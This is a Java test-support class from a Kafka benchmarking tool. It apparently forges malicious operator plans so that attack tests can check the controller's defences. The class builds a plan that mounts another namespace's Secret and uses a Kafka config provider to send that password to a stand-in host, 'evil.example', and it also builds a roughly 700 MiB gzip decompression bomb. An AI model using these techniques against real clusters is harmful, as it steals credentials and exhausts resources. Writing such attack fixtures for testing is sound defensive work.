package io.skewbench.controller.attack;

import io.skewbench.protocol.json.Json;
import io.skewbench.protocol.plan.LoadPlan;
import io.skewbench.protocol.plan.PlanText;
import io.skewbench.protocol.plan.WorkerPlan;
import io.skewbench.protocol.plan.WorkerPlan.RandomValues;
import io.skewbench.protocol.plan.WorkerPlan.RecordPlan;
import io.skewbench.protocol.plan.WorkerPlan.TopicShare;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/** What an attacker writes in the operator's stead. */
final class Forgery {
    /** The attacker's server, which receives the credentials of its clients. */
    static final String SERVER = "evil.example:9092";
    static final String SECRET = "root-password";
    private static final int BOMB_MIB = 700;

    private Forgery() {}

    static Map<String, String> labels(String runId, String attempt) {
        return Map.of("app.kubernetes.io/managed-by", "skewbench", "skewbench.io/run", runId, "skewbench.io/attempt",
                attempt, "skewbench.io/part", "plan");
    }

    /** Returns a plan that mounts a Secret of another namespace, and sends what it holds to the attacker. */
    static Map<String, String> plan(String victim) {
        return Map.of(PlanText.key("c1"), PlanText.of(workerPlan()).json(), "offsets-before.json", "{}", "mounts.json",
                Json.write(List.of(Map.of("namespace", victim, "secret", SECRET, "path", "/etc/stolen", "keys",
                        List.of("password")))));
    }

    /** Returns less than 1 MiB that inflates to 700 MiB: JSON that goes on and on before it says anything. */
    static byte[] bomb() {
        var bytes = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(bytes)) {
            out.write('{');
            var spaces = new byte[1 << 20];
            Arrays.fill(spaces, (byte) ' ');
            for (var mebibyte = 0; mebibyte < BOMB_MIB; mebibyte++) {
                out.write(spaces);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static WorkerPlan workerPlan() {
        return WorkerPlan.builder().trial("forged-t0a0").workload("c1").pods(1).producersPerPod(1)
                .topics(List.of(new TopicShare("any", 1))).bootstrapServers(SERVER)
                .client(Map.of("config.providers", "directory", "config.providers.directory.class",
                        "org.apache.kafka.common.config.provider.DirectoryConfigProvider", "security.protocol",
                        "SASL_PLAINTEXT", "sasl.jaas.config", "${directory:/etc/stolen:password}"))
                .load(new LoadPlan.Unlimited()).records(new RecordPlan(null, RandomValues.ofSize(1)))
                .durationMs(1_000).seed(1).build();
    }
}
